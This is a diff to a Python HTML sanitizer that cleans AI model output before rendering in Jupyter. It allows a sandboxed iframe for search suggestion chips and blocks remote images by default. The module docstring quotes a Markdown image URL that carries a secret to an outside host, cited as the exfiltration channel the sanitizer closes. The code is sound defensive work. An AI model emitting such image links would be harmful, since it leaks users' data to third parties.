@@ -1,50 +1,89 @@
 """The one HTML sanitizer every renderer goes through (nh3, the ammonia sanitizer).
 
-Model output is untrusted: no scripts, no event handlers, no iframes or forms, no ``style`` beyond
-table alignment and highlighting colours, and links/images only with http(s) or mailto URLs
-(relative URLs are dropped too: in JupyterLab they would reach the server's own API). nh3 is
+Model output is untrusted: no scripts, no event handlers, no forms, no ``style`` beyond table
+alignment and highlighting colours, and links/images only with http(s) or mailto URLs (relative
+URLs are dropped too: in JupyterLab they would reach the server's own API). Sanitizing is the last
+step of every HTML path: renderers assemble their whole fragment, then call :func:`sanitize`, and
+nothing is spliced in after it.
+
+The only iframe that survives is Google's Search Suggestions chip: ``srcdoc`` only (never ``src``),
+and its ``sandbox`` is forced to a value without ``allow-scripts`` or ``allow-same-origin``, so even
+an iframe smuggled in some other way could not run code.
+
+Remote images load only when :data:`policy` allows them (``GeminiMagic.remote_images``): an image
+URL in model text is an exfiltration channel (``![x](https://host/?d=SECRET)``), so by default the
+Markdown renderer shows them as links and the sanitizer drops any ``<img>`` that is left. nh3 is
 imported on first use.
 """
 
 from __future__ import annotations
 
+from dataclasses import dataclass
 from typing import Any
 
-__all__ = ["sanitize"]
+__all__ = ["IFRAME_SANDBOX", "RenderPolicy", "policy", "sanitize"]
 
 _SAFE_URL = ("http://", "https://", "mailto:")
 _URL_ATTRIBUTES = {"href", "src", "cite", "srcset", "longdesc", "action", "background"}
-_cleaner: Any = None
+IFRAME_SANDBOX = "allow-popups allow-popups-to-escape-sandbox"
+
+
+@dataclass
+class RenderPolicy:
+    """Rendering choices the user configures (``%config GeminiMagic.remote_images = True``)."""
+
+    remote_images: bool = False
+
+
+policy = RenderPolicy()
+_cleaners: dict[bool, Any] = {}
 
 
 def sanitize(fragment: str) -> str:
     """Strip everything unsafe from an HTML fragment (shared by all renderers)."""
-    global _cleaner
-    if _cleaner is None:
-        import nh3
+    images = policy.remote_images
+    cleaner = _cleaners.get(images)
+    if cleaner is None:
+        cleaner = _cleaners[images] = _make_cleaner(images)
+    return str(cleaner.clean(fragment))
 
-        attributes = {
-            "a": {"href", "title"},
-            "img": {"src", "alt", "title", "width", "height"},
-            "td": {"style", "colspan", "rowspan"},
-            "th": {"style", "colspan", "rowspan"},
-            "ol": {"start"},
-            "details": {"open"},
-            "abbr": {"title"},
-            "span": {"style"},  # syntax highlighting colours (only the properties below survive)
-        }
-        _cleaner = nh3.Cleaner(
-            tags=set(nh3.ALLOWED_TAGS) - {"map", "area"},
-            clean_content_tags={"script", "style"},
-            attributes=attributes,
-            attribute_filter=_safe_attribute,
-            url_schemes={"http", "https", "mailto"},
-            filter_style_properties={"text-align", "color", "font-style", "font-weight"},
-            allowed_classes={"div": {"gm-sources"}, "sup": {"gm-cite"}},
-            link_rel="noopener noreferrer nofollow",
-            set_tag_attribute_values={"a": {"target": "_blank"}},
-        )
-    return _cleaner.clean(fragment)
+
+def _make_cleaner(images: bool) -> Any:
+    import nh3
+
+    attributes = {
+        "a": {"href", "title"},
+        "img": {"src", "alt", "title", "width", "height"},
+        "td": {"style", "colspan", "rowspan"},
+        "th": {"style", "colspan", "rowspan"},
+        "ol": {"start"},
+        "details": {"open"},
+        "abbr": {"title"},
+        "span": {"style"},  # syntax highlighting colours (only the properties below survive)
+        "iframe": {"srcdoc", "title", "style"},
+    }
+    tags = (set(nh3.ALLOWED_TAGS) - {"map", "area"}) | {"iframe"}
+    if not images:
+        tags.discard("img")
+    return nh3.Cleaner(
+        tags=tags,
+        clean_content_tags={"script", "style"},
+        attributes=attributes,
+        attribute_filter=_safe_attribute,
+        url_schemes={"http", "https", "mailto"},
+        filter_style_properties={"text-align", "color", "font-style", "font-weight", "width", "height", "border"},
+        allowed_classes={
+            "div": {"gemini-magic", "gm-sources"},
+            "sup": {"gm-cite"},
+            "iframe": {"gm-search-suggestions"},
+            "a": {"gm-remote-image"},
+        },
+        link_rel="noopener noreferrer nofollow",
+        set_tag_attribute_values={
+            "a": {"target": "_blank"},
+            "iframe": {"sandbox": IFRAME_SANDBOX, "referrerpolicy": "no-referrer"},
+        },
+    )
 
 
 def _safe_attribute(tag: str, attribute: str, value: str) -> str | None:
